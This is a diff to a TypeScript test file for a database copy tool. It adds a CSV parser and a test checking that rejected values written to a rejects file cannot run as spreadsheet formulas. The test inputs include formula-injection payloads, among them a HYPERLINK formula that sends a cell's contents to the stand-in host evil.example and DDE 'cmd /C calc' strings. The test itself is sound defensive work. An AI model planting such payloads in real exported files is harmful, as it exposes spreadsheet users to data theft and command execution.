@@ -18,6 +18,31 @@ function lockstep(args: string[]): Promise<{ code: number; stdout: string; stder
   })
 }
 
+/** The cells of an RFC 4180 CSV text, row by row. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = []
+  let row: string[] = []
+  let cell = ''
+  let quoted = false
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i]
+    if (quoted && c === '"' && text[i + 1] === '"') {
+      cell += '"'
+      i++
+    } else if (c === '"') quoted = !quoted
+    else if (quoted || (c !== ',' && c !== '\n')) cell += c
+    else {
+      row.push(cell)
+      cell = ''
+      if (c === '\n') {
+        rows.push(row)
+        row = []
+      }
+    }
+  }
+  return rows
+}
+
 async function query<T extends pg.QueryResultRow>(url: string, sql: string): Promise<T[]> {
   const client = new pg.Client({ connectionString: url })
   await client.connect()
@@ -83,6 +108,31 @@ describe('lockstep copy', () => {
     expect(third.code).toBe(0)
     expect(third.stdout).toContain('Already copied')
   }, 180_000)
+
+  it('writes rejected values that a spreadsheet would run as formulas to --rejects as text', async () => {
+    const dir = await mkdtemp(join(tmpdir(), 'lockstep-copy-rejects-'))
+    const file = join(dir, 'people.db')
+    const db = new Database(file)
+    db.exec('CREATE TABLE people (id INTEGER PRIMARY KEY, age INTEGER)')
+    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '@SUM(1+1)', '\t=1+1', '\r=1+1', 'forty']
+    const insert = db.prepare('INSERT INTO people (id, age) VALUES (?, ?)')
+    hostile.forEach((value, i) => insert.run(i + 1, value))
+    insert.run(100, 42)
+    db.close()
+    const url = `${await createFreshDatabase('copy_rejects', { migrate: false })}?sslmode=disable`
+    const csvFile = join(dir, 'rejects.csv')
+    const result = await lockstep(['copy', '--from', file, '--to', url, '--rejects', csvFile])
+    expect(result.code, result.stderr).toBe(0)
+    const { readFile } = await import('node:fs/promises')
+    const csv = await readFile(csvFile, 'utf8')
+    const rows = parseCsv(csv)
+    expect(rows.map((row) => [row[0], row[1], row[2], row[4]])).toEqual([
+      ...hostile.slice(0, 6).map((value, i) => ['people', String(i + 1), 'age', `'${value}`]),
+      ['people', '7', 'age', 'forty'],
+    ])
+    // No cell of the file starts a formula: the reasons quote the value too.
+    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
+  }, 60_000)
 
   it('refuses bad input with a clear message and changes nothing', async () => {
     const dir = await mkdtemp(join(tmpdir(), 'lockstep-copy-bad-'))
